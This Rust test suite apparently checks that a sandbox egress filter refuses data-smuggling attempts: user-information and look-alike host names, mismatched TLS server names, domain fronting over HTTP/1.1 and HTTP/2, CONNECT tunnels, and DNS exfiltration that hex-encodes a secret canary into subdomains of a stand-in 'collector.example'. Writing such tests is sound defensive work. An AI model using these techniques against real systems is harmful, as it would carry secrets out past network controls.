//! Names that disagree with each other, names that look like allowed ones, and names that carry something out.

use std::net::SocketAddr;

use carboy_sim::probe::{Hello, Order, ServerNameField};

use crate::attack::{
    Attack, CANARY_IS_KNOWN, NAME_SERVER, Outside, ask, get, has_v6, hello, pieces, plain, query, tls,
};
use crate::http2;
use crate::matrix::names::KINDS;
use crate::world::{CANARY, Person, World};
use crate::{Case, case};

pub fn cases() -> Vec<Case> {
    vec![
        case("B8 a trailing dot changes neither yes nor no", trailing_dots),
        case("B9 user information in a host is refused", user_information),
        case("B11 names that contain an allowed name are not it", look_alikes),
        case("B13 a connection to an allowed host in another's name is refused", other_server_name),
        case("B15 a request to another host than the connection's is refused", fronting),
        case("B28 no query carries anything out, whatever its type and server", dns_as_a_way_out),
    ]
}

fn trailing_dots(person: Person) {
    let world = World::new(person);
    world.settings(CANARY_IS_KNOWN);
    let outside = Outside::new(&world);
    let mut attack = Attack::new(&world, Some(&outside));
    let notes = attack.at("notes.example.", 443);
    assert_eq!(notes, attack.at("NOTES.example", 443));
    attack.works("an allowed host", &tls(notes, "notes.example", get("/sink", &["notes.example."])));
    let secret = get(&format!("/sink?q={CANARY}"), &["notes.example."]);
    attack.refused("a secret to it", &tls(notes, "notes.example", secret), "secret_known", "notes.example");
    for name in ["collector.example.", "127.0.0.1.", "2130706433."] {
        let shown = name.trim_end_matches('.');
        attack.no_such_name(name, &ask(NAME_SERVER, query(name, 1)), "name_not_allowed", shown);
        attack.refused(name, &tls(notes, "notes.example", get("/", &[name])), "name_mismatch", "asked for");
        let lan = outside.v4();
        attack.refused(
            &format!("{name} at an address"),
            &plain(lan, get("/", &[name])),
            "address_not_allowed",
            &lan.ip().to_string(),
        );
    }
    attack.refused(
        "two dots",
        &tls(notes, "notes.example", get("/", &["notes.example.."])),
        "host_invalid",
        "notes.example",
    );
    attack.refused("a dot alone", &tls(notes, "notes.example", get("/", &["."])), "host_invalid", "notes.example");
    attack.finish();
}

fn user_information(person: Person) {
    let world = World::new(person);
    let outside = Outside::new(&world);
    let mut attack = Attack::new(&world, Some(&outside));
    let (notes, plain_at) = (attack.at("notes.example", 443), attack.at("plain.example", 80));
    for text in [
        "notes.example@collector.example",
        "notes.example:443@collector.example",
        "collector.example@notes.example",
        "user:password@notes.example",
        "@notes.example",
        "notes.example%40collector.example",
        "collector.example#@notes.example",
        "collector.example\\@notes.example",
    ] {
        attack.refused(text, &tls(notes, "notes.example", get("/", &[text])), "host_invalid", "notes.example");
    }
    for target in ["http://notes.example@collector.example/", "http://collector.example@plain.example/"] {
        attack.refused(target, &plain(plain_at, get(target, &["plain.example"])), "host_invalid", "plain.example");
    }
    // The same over HTTP/2.
    for authority in ["notes.example@collector.example", "collector.example@notes.example"] {
        let request = http2::request("GET", authority, "/sink", &[], &[]);
        attack.closed(authority, &http2::over(notes, "notes.example", request), "host_invalid", "\"http\":\"2\"");
    }
    let lan = outside.v4();
    let request = get("http://notes.example@collector.example/", &["notes.example@collector.example"]);
    attack.refused("at an address", &plain(lan, request), "address_not_allowed", &lan.ip().to_string());
    attack.finish();
    assert_eq!(world.provider.requests(), 0);
}

fn look_alikes(person: Person) {
    let world = World::new(person);
    let mut attack = Attack::new(&world, None);
    for name in [
        "notnotes.example",
        "notes.example.collector.example",
        "a.notes.example",
        "example",
        "notes-example",
        "wild.example",
        "xwild.example",
        "a.xwild.example",
        "a.wild.example.collector.example",
        "notes.examplex",
        "otes.example",
    ] {
        attack.no_such_name(name, &ask(NAME_SERVER, query(name, 1)), "name_not_allowed", name);
    }
    let (notes, wild) = (attack.at("notes.example", 443), attack.at("a.wild.example", 443));
    for host in ["notnotes.example", "notes.example.collector.example", "example"] {
        attack.refused(
            host,
            &tls(notes, "notes.example", get("/", &[host])),
            "name_mismatch",
            &format!("asked for {host}"),
        );
        attack.refused(host, &tls(notes, host, get("/", &[host])), "name_mismatch", &format!("TLS server name {host}"));
    }
    for host in ["b.wild.example", "wild.example", "a.a.wild.example"] {
        attack.refused(
            host,
            &tls(wild, "a.wild.example", get("/", &[host])),
            "name_mismatch",
            &format!("asked for {host}"),
        );
    }
    attack.works("below the zone", &tls(wild, "a.wild.example", get("/sink", &["A.Wild.Example"])));
    attack.finish();
    assert_eq!(world.provider.requests(), 1);
}

fn other_server_name(person: Person) {
    let world = World::new(person);
    let mut attack = Attack::new(&world, None);
    let notes = attack.at("notes.example", 443);
    let absent = |name: &str| Some(Hello { server_name: ServerNameField::Absent, ..hello(name) });
    for name in ["collector.example", "api.openai.com", "a.notes.example", "plain.example"] {
        let shown = format!("TLS server name {name}");
        attack.refused(name, &tls(notes, name, get("/", &["notes.example"])), "name_mismatch", &shown);
        attack.refused(name, &tls(notes, name, get("/", &[name])), "name_mismatch", &shown);
        // Without the field, the certificate is for the name that was asked of DNS, and Host has to be that name.
        let other = pieces(notes, absent("notes.example"), vec![get("/", &[name])]);
        attack.refused(name, &other, "name_mismatch", &format!("asked for {name}"));
    }
    let connect = b"CONNECT notes.example:443 HTTP/1.1\r\nHost: notes.example:443\r\n\r\n".to_vec();
    attack.refused("a tunnel to itself", &tls(notes, "notes.example", connect), "protocol_refused", "CONNECT");
    let connect = b"CONNECT collector.example:443 HTTP/1.1\r\nHost: notes.example\r\n\r\n".to_vec();
    attack.refused(
        "a tunnel to another",
        &tls(notes, "notes.example", connect),
        "name_mismatch",
        "asked for collector.example",
    );
    attack.closed(
        "a handshake that breaks off",
        &plain(notes, b"\x16\x03\x01\x00\x05hello".to_vec()),
        "tls_refused",
        "notes.example",
    );
    attack.works("no field at all", &pieces(notes, absent("notes.example"), vec![get("/sink", &["notes.example"])]));
    attack.works("capital letters", &tls(notes, "NOTES.Example", get("/sink", &["notes.EXAMPLE"])));
    attack.finish();
    assert_eq!(world.provider.requests(), 2);
}

fn fronting(person: Person) {
    let world = World::new(person);
    let mut attack = Attack::new(&world, None);
    let (notes, plain_at) = (attack.at("notes.example", 443), attack.at("plain.example", 80));
    for host in ["collector.example", "api.openai.com", "notes.example:8443", "a.notes.example"] {
        let shown = format!("asked for {}", host.replace(':', " port "));
        attack.refused(host, &tls(notes, "notes.example", get("/", &[host])), "name_mismatch", &shown);
        let absolute = format!("https://{host}/");
        attack.refused(
            &absolute,
            &tls(notes, "notes.example", get(&absolute, &["notes.example"])),
            "name_mismatch",
            &shown,
        );
        attack.refused(&absolute, &tls(notes, "notes.example", get(&absolute, &[host])), "name_mismatch", &shown);
        let request = http2::request("GET", host, "/sink", &[], &[]);
        attack.closed(
            &format!("{host} over HTTP/2"),
            &http2::over(notes, "notes.example", request),
            "name_mismatch",
            &shown,
        );
        let request = http2::request("GET", "notes.example", "/sink", &[("host", host)], &[]);
        attack.closed(
            &format!("{host} beside :authority"),
            &http2::over(notes, "notes.example", request),
            "name_mismatch",
            &shown,
        );
    }
    attack.refused("plain", &plain(plain_at, get("/", &["notes.example"])), "name_mismatch", "asked for notes.example");
    let two = get("/", &["notes.example", "collector.example"]);
    attack.refused(
        "two hosts, the right one first",
        &tls(notes, "notes.example", two),
        "name_mismatch",
        "asked for collector.example",
    );
    let two = get("/", &["notes.example", "notes.example"]);
    attack.refused("the same host twice", &tls(notes, "notes.example", two), "host_invalid", "2 Host fields");
    attack.refused("no host", &tls(notes, "notes.example", get("/", &[])), "host_invalid", "no Host");
    attack.refused("an empty host", &tls(notes, "notes.example", get("/", &[""])), "host_invalid", "notes.example");
    // The second request of a connection is judged like the first.
    let first = b"GET /sink HTTP/1.1\r\nHost: notes.example\r\n\r\n".to_vec();
    let both = pieces(notes, Some(hello("notes.example")), vec![first, get("/", &["second.example"])]);
    attack.refused_after_one("a second request", &both, "name_mismatch", "asked for second.example");
    attack.finish();
    assert_eq!(world.provider.requests(), 1);
}

fn dns_as_a_way_out(person: Person) {
    let world = World::new(person);
    world.settings(CANARY_IS_KNOWN);
    let outside = Outside::new(&world);
    let mut attack = Attack::new(&world, Some(&outside));
    let hex: String = CANARY.bytes().map(|b| format!("{b:02x}")).collect();
    let (front, back) = hex.split_at(40);
    for (kind, number) in KINDS {
        let name = format!("{}.data.collector.example", kind.to_lowercase());
        attack.no_such_name(&name, &ask(NAME_SERVER, query(&name, number)), "name_not_allowed", &name);
        for name in [
            format!("{CANARY}.{}.collector.example", kind.to_lowercase()),
            format!("{front}.{back}.{}.wild.example", kind.to_lowercase()),
        ] {
            attack.no_such_name(
                &name,
                &ask(NAME_SERVER, query(&name, number)),
                "secret_known",
                &format!("\"type\":\"{kind}\""),
            );
        }
    }
    let mut servers = vec![
        SocketAddr::from(([8, 8, 8, 8], 53)),
        SocketAddr::new(outside.v4().ip(), 53),
        SocketAddr::from(([169, 254, 169, 253], 53)),
    ];
    if has_v6() {
        servers.extend([
            SocketAddr::from(([0x2001, 0x4860, 0x4860, 0, 0, 0, 0, 0x8888], 53)),
            SocketAddr::new(outside.v6().ip(), 53),
        ]);
    }
    for (number, server) in servers.into_iter().enumerate() {
        let name = format!("server{number}.collector.example");
        attack.no_such_name(&server.to_string(), &ask(server, query(&name, 1)), "name_not_allowed", &name);
        let name = format!("stream{number}.collector.example");
        let question = query(&name, 16);
        let framed = [&(question.len() as u16).to_be_bytes()[..], &question].concat();
        let stream = Order::Raw { address: server, tls: None, pieces: vec![framed], pause_ms: 0, quiet_ms: 300 };
        attack.no_such_name(&format!("{server} by TCP"), &stream, "name_not_allowed", &name);
    }
    let mut chaos = query("version.bind", 16);
    *chaos.last_mut().unwrap() = 3;
    attack.closed("another class", &ask(NAME_SERVER, chaos), "dns_query_refused", "version.bind");
    attack.closed("no question at all", &ask(NAME_SERVER, CANARY.into()), "dns_query_refused", "dns_query");
    for port in [5353, 5300, outside.v4().port()] {
        let server = SocketAddr::new(outside.v4().ip(), port);
        attack.nothing_there(&format!("port {port}"), &ask(server, query(&format!("{CANARY}.collector.example"), 1)));
    }
    let silent = Order::Raw {
        address: SocketAddr::new(outside.v4().ip(), 853),
        tls: None,
        pieces: vec![query("tls.collector.example", 1)],
        pause_ms: 0,
        quiet_ms: 200,
    };
    attack.closed("DNS over TLS", &silent, "address_not_allowed", "\"port\":853");
    let ran = attack.finish();
    let log = std::fs::read_to_string(world.dir.join("home/audit/audit.jsonl")).unwrap();
    assert!(!log.contains(front) && !log.contains(back), "the secret stands in the log in hex");
    assert_eq!(ran.summary["requests"], 0, "{}", ran.summary);
}
